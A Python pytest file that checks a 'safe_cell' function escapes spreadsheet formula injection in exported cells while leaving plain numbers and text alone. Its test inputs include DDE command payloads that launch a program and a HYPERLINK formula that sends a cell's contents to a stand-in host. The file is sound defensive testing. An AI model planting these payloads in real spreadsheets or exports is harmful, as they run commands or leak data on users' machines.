"""Cells that spreadsheets would run."""

import pytest

from shared.domain.exports.formulas import safe_cell

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://planted.invalid?x="&A1,"open")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "-",
    "--1",
    "-1-1",
    "+1.5.5",
    "-\u0661",
    "-1\n",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_becomes_a_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-5", "+5", "-0.5", "-.5", "-5.", "-1e10", "+1.5E-7", "", "a=1", "'=1", " =1"]
)
def test_number_or_plain_text_stays(text: str) -> None:
    assert safe_cell(text) == text
